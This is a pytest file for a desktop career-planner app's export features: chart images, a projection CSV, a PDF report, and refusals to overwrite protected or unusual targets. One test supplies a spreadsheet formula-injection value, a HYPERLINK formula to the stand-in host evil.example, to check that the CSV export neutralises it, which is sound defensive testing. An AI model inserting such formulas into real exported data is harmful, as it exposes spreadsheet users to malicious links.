"""File > Export...: charts as PNG and SVG at a chosen width, the projection as CSV, the career report as PDF.

Every file dialog is answered by FakeDialogs (no modal dialog opens). Files are read back the way another program
would read them, and their figures compared with what the window shows.
"""

from __future__ import annotations

import codecs
import copy
import csv
import datetime as dt
import io
import json
import os
import re
import stat
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fake_dialogs import FakeDialogs
from PySide6.QtCore import Qt
from PySide6.QtGui import QImage
from PySide6.QtWidgets import QApplication

from planner.app import Context, build_window
from planner.domain.dataset import Dataset
from planner.domain.money import usd
from planner.domain.plans import Scenario
from planner.domain.profile import PROFILE_SCHEMA_VERSION
from planner.presenters.fields import FIELDS
from planner.startup import configure_application
from planner.tabs.projection.presenter import ProjectionPresenter
from planner.tabs.projection.view import ProjectionTab
from planner.tabs.skills.presenter import SkillsPresenter
from planner.views.charts import chart_of
from planner.views.export_render import chart_aspect

SVG_NS = "{http://www.w3.org/2000/svg}"


@pytest.fixture
def dialogs() -> FakeDialogs:
    return FakeDialogs()


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """Where the exports go (the data folder is elsewhere)."""
    folder = tmp_path / "exports"
    folder.mkdir()
    return folder


@pytest.fixture
def ctx(qtbot: Any, qapp: QApplication, dataset: Dataset, data_dir: Path, dialogs: FakeDialogs) -> Iterator[Context]:
    configure_application(qapp)
    context = build_window(qapp, dataset, data_dir, dialogs=dialogs)
    qtbot.addWidget(context.window)
    context.window.show()
    qtbot.waitExposed(context.window)
    yield context
    context.window.close()


def show_tab(ctx: Context, title: str) -> Any:
    tab = ctx.window.tab_widget(title)
    ctx.window.tabs.setCurrentWidget(tab)
    return tab


def status(ctx: Context) -> str:
    return ctx.window.statusBar().currentMessage()


def test_chart_as_png_at_the_chosen_width(ctx: Context, dialogs: FakeDialogs, out: Path) -> None:
    tab = show_tab(ctx, "levels")
    dialogs.save_to, dialogs.width = out / "levels.png", 1234
    ctx.window.export_chart_action.trigger()

    image = QImage(str(out / "levels.png"))
    assert not image.isNull()
    assert image.width() == 1234
    aspect = dialogs.asked_width[-1][1]  # the height the size question showed is the file's
    assert image.height() == pytest.approx(1234 * aspect, abs=2)
    assert aspect > chart_aspect(tab.plot)  # the chart as on screen, with its title and foot added
    assert dialogs.asked_save[0][1].name == "ml-career-levels.png"  # named from the tab's id
    assert str(out / "levels.png") in status(ctx)
    # The picture is the chart, not an empty canvas: it holds the bar colour of the chart on screen.
    colours = {image.pixelColor(x, y).name() for x in range(0, image.width(), 7) for y in range(0, image.height(), 7)}
    assert len(colours) > 5


def test_a_chart_export_is_light_without_the_selection_and_the_screen_stays_dark(
    ctx: Context, dialogs: FakeDialogs, out: Path, qapp: QApplication
) -> None:
    from planner.views.theme import apply_theme, is_dark

    tab = show_tab(ctx, "levels")
    apply_theme(qapp, "dark")
    try:
        assert tab.selection_band is not None
        assert tab.selection_band.isVisible()
        dialogs.save_to, dialogs.width = out / "levels.png", 800
        ctx.window.export_chart_action.trigger()
        image = QImage(str(out / "levels.png"))
        assert image.pixelColor(3, 3).lightness() > 200  # a light background in the dark theme
        assert is_dark()
        assert tab.plot.backgroundBrush().color().lightness() < 128  # the chart on screen is dark again
        assert tab.selection_band.isVisible()  # and shows the selection again
        from planner.views.export_render import for_paper

        with for_paper(tab):  # what every chart export and the report draw inside
            assert not tab.selection_band.isVisible()
            assert not is_dark()
    finally:
        apply_theme(qapp, "light")
    for tab_id in ("offers", "market", "projection"):
        show_tab(ctx, tab_id)
        ctx.window.export_chart_action.trigger()
        assert dialogs.asked_save[-1][1].name == f"ml-career-{tab_id}.png"


def svg_text(path: Path) -> str:
    """Every text of an SVG file, without white space (a long line wraps where the width says)."""
    root = ET.parse(path).getroot()
    return re.sub(r"\s+", "", " ".join("".join(t.itertext()) for t in root.iter(f"{SVG_NS}text")))


def squeezed(text: str) -> str:
    return re.sub(r"\s+", "", text)


@pytest.mark.parametrize("tab_id", ["levels", "industries", "projection", "market", "offers"])
def test_every_chart_export_says_what_it_shows_its_source_and_date(
    ctx: Context, dialogs: FakeDialogs, out: Path, tab_id: str
) -> None:
    from planner.views.export_render import DERIVED_SOURCE, chart_caption

    assert ctx.commands is not None
    ctx.commands.today = lambda: dt.date(2026, 5, 1)
    ctx.session.edit(years_of_experience=6.0, current_salary=145_000, market_area="0042660")
    tab = show_tab(ctx, tab_id)
    plot = chart_of(tab)
    assert plot is not None
    before = plot.getPlotItem().geometry()
    dialogs.save_to, dialogs.save_suffix = out / f"{tab_id}.svg", "svg"
    ctx.window.export_chart_action.trigger()

    text = svg_text(out / f"{tab_id}.svg")
    caption = chart_caption(tab, ctx.window.tabs.tabText(ctx.window.tabs.currentIndex()))
    assert caption.title
    assert caption.source
    for part in (caption.title, caption.caption, caption.source, "Exported from ML Career Planner on 1 May 2026"):
        assert squeezed(part) in text
    assert plot.getPlotItem().geometry() == before  # the chart on screen is as it was
    if tab_id == "market":  # which occupation and area
        assert squeezed("Software Developers in Seattle-Tacoma-Bellevue, WA") in text
        assert "BureauofLaborStatistics" in text
    if tab_id == "offers":  # the key, beside the chart on screen, is in the file
        assert all(squeezed(name) in text for name in ("Base salary", "Sign-on bonus", "Equity refreshers"))
    if tab_id in ("levels", "industries"):
        assert "Selectedinthetable" not in text  # a file shows no selection, nor says it does
        assert squeezed(ctx.dataset.document.title) in text
    if tab_id == "projection":  # its view has no export_caption yet: the axis label and the derived source
        assert caption.source == DERIVED_SOURCE
        assert squeezed("Base salary (nominal $)") in text


def test_a_take_home_projection_chart_says_whose_taxes_and_where_the_tax_figures_come_from(
    ctx: Context, dialogs: FakeDialogs, out: Path
) -> None:
    """Take-home pay in New York, today's dollars: the exported chart said only "Derived by ML Career Planner from
    the article's salary ranges, your own entries and the assumptions", not whose taxes nor their figures' source."""
    from planner.domain.profile import TaxInputs

    ctx.session.edit(years_of_experience=6.0, current_salary=145_000, taxes=TaxInputs(state="NY"))
    tab = show_tab(ctx, "projection")
    tab.dollars.setCurrentIndex(tab.dollars.findData("today"))
    tab.comp.setCurrentIndex(tab.comp.findData("take_home"))
    dialogs.save_to, dialogs.save_suffix = out / "take-home.svg", "svg"
    ctx.window.export_chart_action.trigger()
    text = svg_text(out / "take-home.svg")
    assert squeezed("Projection: projected take-home pay, today's dollars") in text
    assert squeezed("Taxes: New York (your choice), single.") in text
    assert squeezed("Taxes: derived from Tax-Calculator") in text
    assert "policy_current_law.json" in text
    assert "PolicyEngine-US" in text
    tab.comp.setCurrentIndex(tab.comp.findData("base"))  # before tax: no taxes to name
    dialogs.save_to = out / "base.svg"
    ctx.window.export_chart_action.trigger()
    assert "PolicyEngine-US" not in svg_text(out / "base.svg")


def test_the_csvs_take_home_pay_names_the_tax_figures_it_comes_from(
    ctx: Context, dialogs: FakeDialogs, out: Path
) -> None:
    """The CSV's "Take-home pay" line said what is taken off and whose taxes, but not where the tax figures come
    from; a "Tax figures" line names them as the report and the exported chart do."""
    from planner.domain.profile import TaxInputs

    ctx.session.edit(years_of_experience=6.0, current_salary=145_000, taxes=TaxInputs(state="NY"))
    dialogs.save_to = out / "projection.csv"
    ctx.window.export_csv_action.trigger()
    fields = {row[0]: row[1:] for row in read_csv_blocks(out / "projection.csv")[0]}
    assert "New York (your choice)" in fields["Take-home pay"][0]
    [source] = fields["Tax figures"]
    assert source.startswith("derived from Tax-Calculator")
    assert "policy_current_law.json" in source
    assert "PolicyEngine-US" in source


def test_the_offers_year_labels_grow_with_the_exported_picture(ctx: Context, dialogs: FakeDialogs, out: Path) -> None:
    """Y1 … Y4 are drawn in device pixels: a picture twice as wide as the screen has them twice as large."""
    from planner.views.charts import PointLabels

    tab = show_tab(ctx, "offers")
    labels = tab.year_labels
    assert isinstance(labels, PointLabels)
    painted: list[float] = []
    original = labels.paint

    def spy(painter: Any, *args: Any) -> None:
        set_font = painter.setFont
        painter.setFont = lambda font: (painted.append(font.pointSizeF()), set_font(font))
        original(painter, *args)

    labels.paint = spy  # type: ignore[method-assign]
    screen = labels._font.pointSizeF()
    width = round(tab.plot.getPlotItem().sceneBoundingRect().width() * 3)
    dialogs.save_to, dialogs.width = out / "offers.png", width
    ctx.window.export_chart_action.trigger()
    assert painted
    assert painted[-1] == pytest.approx(screen * 3, rel=0.05)


def test_chart_as_svg_parses_and_has_the_chosen_size(ctx: Context, dialogs: FakeDialogs, out: Path) -> None:
    show_tab(ctx, "industries")
    dialogs.save_to, dialogs.save_suffix, dialogs.width = out / "industries.svg", "svg", 900
    ctx.window.export_chart_action.trigger()

    root = ET.parse(out / "industries.svg").getroot()
    assert root.tag == f"{SVG_NS}svg"
    assert root.get("width") == "900"
    assert root.get("viewBox", "").split()[2] == "900"
    texts = " ".join(t.text or "" for t in root.iter(f"{SVG_NS}text"))
    assert "$" in texts  # the currency axis is drawn as text, readable and searchable


def test_a_name_without_suffix_gets_the_chosen_format(ctx: Context, dialogs: FakeDialogs, out: Path) -> None:
    show_tab(ctx, "projection")
    dialogs.save_to, dialogs.save_suffix, dialogs.width = out / "my chart", "svg", 700
    ctx.window.export_chart_action.trigger()
    assert (out / "my chart.svg").is_file()
    assert ET.parse(out / "my chart.svg").getroot().get("width") == "700"


def test_the_skills_tab_has_no_chart_to_export(ctx: Context, dialogs: FakeDialogs, out: Path) -> None:
    show_tab(ctx, "skills")
    assert not ctx.window.export_chart_action.isEnabled()
    dialogs.save_to = out / "x.png"
    assert ctx.commands is not None
    assert ctx.commands.export_chart() is None
    assert dialogs.asked_save == []
    show_tab(ctx, "projection")
    assert ctx.window.export_chart_action.isEnabled()


def test_cancelling_writes_nothing(ctx: Context, dialogs: FakeDialogs, out: Path) -> None:
    show_tab(ctx, "levels")
    dialogs.save_to = None
    ctx.window.export_chart_action.trigger()
    dialogs.save_to, dialogs.width = out / "c.png", None  # cancelled at the size question
    ctx.window.export_chart_action.trigger()
    assert list(out.iterdir()) == []
    assert "cancelled" in status(ctx)


@pytest.mark.parametrize("agree", [False, True])
def test_an_existing_file_is_replaced_only_when_the_user_agrees(
    ctx: Context, dialogs: FakeDialogs, out: Path, agree: bool
) -> None:
    target = out / "projection.csv"
    target.write_bytes(b"keep me")
    dialogs.save_to, dialogs.replace = target, agree
    ctx.window.export_csv_action.trigger()
    assert dialogs.asked_replace == [target]
    if agree:
        assert target.read_bytes().startswith(codecs.BOM_UTF8 + b"ML Career Planner")
        assert str(target) in status(ctx)
    else:
        assert target.read_bytes() == b"keep me"
        assert "left as it is" in status(ctx)
    assert sorted(p.name for p in out.iterdir()) == ["projection.csv"]  # no temporary file left behind


def test_a_replace_the_file_dialog_already_confirmed_is_not_asked_twice(
    ctx: Context, dialogs: FakeDialogs, out: Path
) -> None:
    target = out / "profile.json"
    target.write_bytes(b"old")
    dialogs.save_to, dialogs.dialog_confirmed_replace = target, True
    ctx.window.export_profile_action.trigger()
    assert dialogs.asked_replace == []
    assert target.read_bytes() != b"old"


def read_csv_blocks(path: Path) -> list[list[list[str]]]:
    """The file as Python's csv module reads it once the byte-order mark is stripped, in blocks (an empty line
    between two blocks)."""
    data = path.read_bytes()
    assert data.startswith(codecs.BOM_UTF8)  # Excel reads UTF-8 only after this mark
    text = data[len(codecs.BOM_UTF8) :].decode("utf-8")
    blocks: list[list[list[str]]] = [[]]
    for row in csv.reader(io.StringIO(text, newline="")):
        if row:
            blocks[-1].append(row)
        else:
            blocks.append([])
    return blocks


def read_csv(path: Path) -> tuple[list[str], list[list[str]]]:
    """The projection's table: the file's second block."""
    table = read_csv_blocks(path)[1]
    return table[0], table[1:]


def test_projection_csv_holds_the_numbers_on_screen_in_the_chosen_dollars(
    ctx: Context, dialogs: FakeDialogs, out: Path, qtbot: Any
) -> None:
    tab = show_tab(ctx, "projection")
    assert isinstance(tab, ProjectionTab)
    ctx.session.edit(years_of_experience=6.0, current_salary=130_000)
    tab.dollars.setCurrentIndex(tab.dollars.findData("today"))
    dialogs.save_to = out / "projection.csv"
    ctx.window.export_csv_action.trigger()

    header, rows = read_csv(out / "projection.csv")
    assert header[:3] == ["Year", "Years of experience", "Level"]
    assert all("today's dollars" in h for h in header[3:7] + header[8:])
    assert header[7].startswith("Against the article")
    model = tab.table.model()
    assert len(rows) == model.rowCount() == ctx.session.profile.assumptions.horizon_years
    for r, row in enumerate(rows):
        shown = [model.index(r, c).data(Qt.ItemDataRole.DisplayRole) for c in range(model.columnCount())]
        assert row[0] == shown[0]
        assert row[2] == shown[2]
        assert [usd(int(v)) for v in row[3:7] + row[8:]] == shown[3:7] + shown[8:]
        assert row[7] == str(model.index(r, 7).data(Qt.ItemDataRole.ToolTipRole)).replace("⚠ ", "")
    projected = [int(r[4]) for r in rows]
    assert int(rows[-1][6]) == pytest.approx(sum(projected), abs=len(rows))  # cumulative: the running total
    assert float(rows[0][1]) == 6.0


def test_projection_csv_neutralises_formulas_from_a_data_pack_and_a_scenario_name(
    qtbot: Any, qapp: QApplication, raw_dataset: dict[str, Any], data_dir: Path, dialogs: FakeDialogs, out: Path
) -> None:
    evil = '=HYPERLINK("http://evil.example/?x=1","Entry level")'
    raw = copy.deepcopy(raw_dataset)
    raw["levels"][0]["name"] = evil
    context = build_window(qapp, Dataset.model_validate(raw), data_dir, dialogs=dialogs)
    qtbot.addWidget(context.window)
    try:
        show_tab(context, "projection")
        context.session.edit(years_of_experience=1.0, current_salary=90_000)
        context.session.edit("add", scenarios=[Scenario(id="scenario-1", name="@SUM(A1:A9)")])
        dialogs.save_to = out / "projection.csv"
        context.window.export_csv_action.trigger()
        header, rows = read_csv(out / "projection.csv")
    finally:
        context.window.close()
    assert header[-1].startswith("'@SUM(A1:A9)")
    assert rows[0][2] == "'" + evil  # shown as the text it is, never a live link
    cells = [cell for block in read_csv_blocks(out / "projection.csv") for row in block for cell in row]
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells
    )  # every block, not only the table
    assert int(rows[0][4]) > 0  # numbers stay numbers


def test_projection_csv_opens_in_a_spreadsheet_with_what_it_is_first_and_the_pay_history_last(
    ctx: Context, dialogs: FakeDialogs, out: Path
) -> None:
    tab = show_tab(ctx, "projection")
    assert isinstance(tab, ProjectionTab)
    assert ctx.commands is not None
    ctx.commands.today = lambda: dt.date(2026, 5, 1)
    name = "Zürich — Straße, 東京 «ok»"
    ctx.session.edit(years_of_experience=6.0, current_salary=145_000, pay_history={2023: 120_000, 2024: 130_000})
    ctx.session.edit(assumptions=ctx.session.profile.assumptions.model_copy(update={"inflation": 0.031}))
    ctx.session.edit("add", scenarios=[Scenario(id="scenario-1", name=name, industry="consumer-goods")])
    tab.dollars.setCurrentIndex(tab.dollars.findData("today"))
    dialogs.save_to = out / "projection.csv"
    ctx.window.export_csv_action.trigger()

    path = out / "projection.csv"
    about, table, history = read_csv_blocks(path)
    fields = {row[0]: row[1:] for row in about}
    assert fields["Exported on"] == ["1 May 2026"]  # one form for dates everywhere (issue 24 item 12)
    assert "today's dollars" in fields["Amounts"][0]
    assert "base salary" in fields["Amounts"][0]
    assert "US dollars a year" in fields["Amounts"][0]
    assumptions = about[about.index(["Assumption", "Value", "Unit", "Default or yours", "Default value"]) + 1 :]
    labels = [spec.label.partition(" (")[0] for spec in FIELDS if spec.assumption]
    assert [row[0] for row in assumptions] == labels  # every assumption, in the Projection tab's order
    mine = {row[0]: row for row in assumptions}
    assert mine["Inflation"][1:4] == ["3.1", "% a year", "yours"]
    assert mine["Horizon"][3] == "default"
    assert all(row[3] in ("default", "yours") for row in assumptions)
    # The table: the scenario's name round-trips as typed, its figures are numbers.
    assert table[0][-1].startswith(name + " (scenario)")
    assert len(table) - 1 == ctx.session.profile.assumptions.horizon_years
    assert int(table[1][-1]) > 0
    # The pay history: a block of its own, with the salaries as entered and in today's dollars.
    assert history[0] == ["Your pay history"]
    assert history[1][:3] == [
        "Year",
        "Base salary (USD a year, nominal: your entry)",
        "Change from the year before (%)",
    ]
    assert "today's dollars" in history[1][3]
    assert history[2][:3] == ["2023", "120000", ""]
    assert history[3][:3] == ["2024", "130000", "8.3"]
    assert int(history[3][3]) > 130_000  # a past salary is worth more in today's dollars
    # As LibreOffice (and Excel with the mark) reads it: utf-8-sig takes the mark away, the name is whole.
    with path.open(newline="", encoding="utf-8-sig") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["ML Career Planner: your projected pay year by year"]
    assert any(cell.startswith(name) for row in rows for cell in row)


def test_profile_export_writes_the_profile(ctx: Context, dialogs: FakeDialogs, out: Path) -> None:
    ctx.session.edit(years_of_experience=3.5)
    dialogs.save_to = out / "me.json"
    ctx.window.export_profile_action.trigger()
    from planner.storage.exports import read_profile_import

    assert read_profile_import(out / "me.json") == ctx.session.profile


def pdf_pages(data: bytes) -> int:
    return len(re.findall(rb"/Type\s*/Page\b(?!s)", data))


def test_career_report_pdf(ctx: Context, dialogs: FakeDialogs, out: Path) -> None:
    ctx.presenter("skills", SkillsPresenter).set_checked("entry.python", True)
    dialogs.save_to = out / "report.pdf"
    ctx.window.export_pdf_action.trigger()

    data = (out / "report.pdf").read_bytes()
    assert data.startswith(b"%PDF-")
    assert data.rstrip().endswith(b"%%EOF")
    assert 2 <= pdf_pages(data) <= 3  # README: three or four pages, three without scenarios and offers
    assert b"/Subtype /Image" in data  # the projection chart
    assert "Career report saved to" in status(ctx)
    assert dialogs.asked_save[0][1].suffix == ".pdf"


def test_report_holds_profile_progress_table_and_sources(ctx: Context, dataset: Dataset) -> None:
    import datetime as dt

    from planner.commands.reports import career_report
    from planner.views.report_render import report_blocks

    ctx.session.edit(years_of_experience=4.0, current_salary=101_000, industry=dataset.industries[0].id)
    ctx.presenter("skills", SkillsPresenter).set_checked("entry.python", True)
    tab = show_tab(ctx, "projection")
    assert ctx.presenter("projection", ProjectionPresenter) is not None
    report = career_report(
        dataset,
        ctx.session.profile,
        ctx.presenter("skills", SkillsPresenter).progress(),
        ctx.presenter("projection", ProjectionPresenter),
        dt.date(2025, 5, 1),
    )
    html = "".join(block.html for block in report_blocks(report, None, 500))

    assert "$101,000" in html
    assert dataset.industries[0].name in html
    python = next(sk.name for sk in dataset.level("entry").skills if sk.id == "entry.python")
    assert python in html
    assert f"1&nbsp;of&nbsp;{len(dataset.level('entry').skills)}" in html
    model = tab.table.model()
    last = model.rowCount() - 1
    for c in (0, 3, 4, 5, 6):  # the last row of the table on screen (the report's has every fifth year and the last)
        assert str(model.index(last, c).data()).replace(" ", "&nbsp;") in html
    assert str(model.index(last, 2).data()).removesuffix(" level") in html  # "Senior", under "Level"
    for source in dataset.sources:
        assert source.name in html
    read_on = dataset.document.read_on
    assert f"{read_on.day} {read_on:%B %Y}" in html


def test_chart_of_every_tab(ctx: Context) -> None:
    charts = {tab_id: chart_of(ctx.window.tab_widget(tab_id)) for tab_id in ctx.window.tab_ids()}
    assert {t for t, c in charts.items() if c is None} == {"skills"}


def test_the_size_question_shows_the_height_that_follows(qtbot: Any) -> None:
    from planner.views.dialogs import ChartSizeDialog

    dialog = ChartSizeDialog("PNG size", 1600, 0.5)
    qtbot.addWidget(dialog)
    assert dialog.height_label.text() == "800 px"
    dialog.width_spin.setValue(1000)
    assert dialog.height_label.text() == "500 px"
    assert dialog.width_spin.accessibleName()


def test_the_reports_chart_is_laid_out_at_print_size_and_as_wide_as_the_table(ctx: Context) -> None:
    from planner.views.export_render import REPORT_CHART_LAYOUT_SLACK, chart_image_at_print_size, report_text_width

    tab = ctx.window.tab_widget("projection")
    plot = chart_of(tab)
    assert plot is not None
    ctx.window.resize(1800, 1000)  # a wide window: exported as it is, its text would print at about 4 pt
    on_screen = plot.getPlotItem().geometry()
    width = report_text_width()
    image = chart_image_at_print_size(plot, width)
    # Laid out (nearly) as wide as it prints, so text keeps its size on screen: the axis font, shrunk by the layout
    # slack, still prints at 8 pt or more.
    printed_width = image.width() / image.devicePixelRatio() / REPORT_CHART_LAYOUT_SLACK
    assert abs(printed_width - width) <= 1
    axis_font = plot.getPlotItem().getAxis("left").label.font()
    point_size = axis_font.pointSizeF() if axis_font.pointSizeF() > 0 else axis_font.pixelSize() * 0.75
    assert point_size / REPORT_CHART_LAYOUT_SLACK >= 8
    assert image.height() < image.width()
    assert plot.getPlotItem().geometry() == on_screen  # the chart on screen is as it was


# --- targets an export never writes (issue 23, items 4 and 10) ------------------------------------------------------


def test_export_profile_never_replaces_a_newer_profile_the_app_runs_read_only_on(
    open_app: Any, data_dir: Path, dialogs: FakeDialogs
) -> None:
    content = json.dumps({"schema_version": PROFILE_SCHEMA_VERSION + 1, "skills": {}}).encode()
    (data_dir / "profile.json").write_bytes(content)
    context = open_app(dialogs=dialogs)
    assert "newer version" in context.window.banner.text()
    dialogs.save_to, dialogs.replace = data_dir / "profile.json", True
    context.window.export_profile_action.trigger()
    assert (data_dir / "profile.json").read_bytes() == content
    assert "left as it is" in status(context)
    assert "one of the app's own files" in dialogs.errors[-1]
    assert dialogs.asked_replace == []  # refused before "Replace?" is asked


@pytest.mark.parametrize("name", ["settings.ini", "profile.lock", "salary-data.json", "profile.json.v3-backup"])
def test_no_export_replaces_a_file_of_the_data_folder(
    ctx: Context, dialogs: FakeDialogs, data_dir: Path, out: Path, name: str
) -> None:
    own = data_dir / name
    own.write_bytes(b"the app's own")
    via_link = out / "data-folder"
    via_link.symlink_to(data_dir)  # the same folder reached by another path
    for target in (own, via_link / name):
        dialogs.save_to, dialogs.replace = target, True
        ctx.window.export_csv_action.trigger()
        assert own.read_bytes() == b"the app's own"
        assert "one of the app's own files" in dialogs.errors[-1]


def test_an_export_never_writes_through_a_symbolic_link(
    ctx: Context, dialogs: FakeDialogs, out: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "elsewhere.csv"
    outside.write_bytes(b"not yours")
    link, dangling = out / "link.csv", out / "dangling.csv"
    link.symlink_to(outside)
    dangling.symlink_to(tmp_path / "nowhere" / "made.csv")
    (tmp_path / "nowhere").mkdir()
    for target in (link, dangling):
        dialogs.save_to, dialogs.replace = target, True
        ctx.window.export_csv_action.trigger()
        assert "symbolic link" in dialogs.errors[-1]
        assert "left as it is" in status(ctx)
        assert target.is_symlink()
    assert outside.read_bytes() == b"not yours"
    assert list((tmp_path / "nowhere").iterdir()) == []


def test_an_export_onto_a_named_pipe_is_refused_and_the_pipe_stays(
    ctx: Context, dialogs: FakeDialogs, out: Path
) -> None:
    fifo = out / "pipe.csv"
    os.mkfifo(fifo)
    dialogs.save_to, dialogs.replace = fifo, True
    ctx.window.export_csv_action.trigger()
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert "named pipe" in dialogs.errors[-1]
    assert "saved to" not in status(ctx)


def test_a_read_only_target_is_refused_and_stays_read_only(ctx: Context, dialogs: FakeDialogs, out: Path) -> None:
    target = out / "kept.json"
    target.write_bytes(b"keep")
    target.chmod(0o444)
    for confirmed_in_dialog in (False, True):
        dialogs.save_to, dialogs.replace, dialogs.dialog_confirmed_replace = target, True, confirmed_in_dialog
        ctx.window.export_profile_action.trigger()
        assert target.read_bytes() == b"keep"
        assert stat.S_IMODE(target.stat().st_mode) == 0o444
        assert "read-only" in dialogs.errors[-1]


def test_the_status_bar_names_the_file_written(ctx: Context, dialogs: FakeDialogs, out: Path) -> None:
    dialogs.save_to = out / "mine"  # the suffix is added
    ctx.window.export_profile_action.trigger()
    assert status(ctx) == f"Profile saved to {out / 'mine.json'}"
    assert (out / "mine.json").is_file()


def test_the_projection_caption_names_the_dollars_and_pay_shown(ctx: Context) -> None:
    """tabs.projection.export_caption, for the Projection tab's view to call (not wired yet)."""
    from planner.tabs.projection.export_caption import projection_caption

    show_tab(ctx, "projection")
    presenter = ctx.presenter("projection", ProjectionPresenter)
    caption = projection_caption(presenter.chart, "today", "total")
    assert caption.title == "Projection: projected total compensation, today's dollars (USD a year)"
    assert str(presenter.current_year) in caption.caption
    assert projection_caption(None, "nominal", "base").title.startswith("Projection: projected base salary, nominal")


def test_the_projection_charts_axes_are_drawn_afresh_for_a_file_not_from_their_screen_pixmap(
    ctx: Context, dialogs: FakeDialogs, out: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On screen the Projection chart keeps each axis as a pixmap of itself (a tick repaints the plot beside it);
    a file or a page is drawn larger, where that pixmap would be scaled. The file is the same as one drawn from a
    chart that never kept a pixmap."""
    from PySide6.QtWidgets import QGraphicsItem

    from planner.views.export_render import for_paper

    tab = show_tab(ctx, "projection")
    axis = tab.plot.getPlotItem().getAxis("left")
    assert axis.cacheMode() == QGraphicsItem.CacheMode.DeviceCoordinateCache
    with for_paper(tab):
        assert axis.cacheMode() == QGraphicsItem.CacheMode.NoCache
    assert axis.cacheMode() == QGraphicsItem.CacheMode.DeviceCoordinateCache  # on screen again
    dialogs.save_to, dialogs.width = out / "first.png", 2400
    ctx.window.export_chart_action.trigger()  # (the first export lays the chart out for paper once)
    dialogs.save_to = out / "cached.png"
    ctx.window.export_chart_action.trigger()
    for name in ("left", "bottom"):
        tab.plot.getPlotItem().getAxis(name).setCacheMode(QGraphicsItem.CacheMode.NoCache)
    tab.plot.repaint()
    dialogs.save_to = out / "uncached.png"
    ctx.window.export_chart_action.trigger()
    assert QImage(str(out / "cached.png")) == QImage(str(out / "uncached.png"))
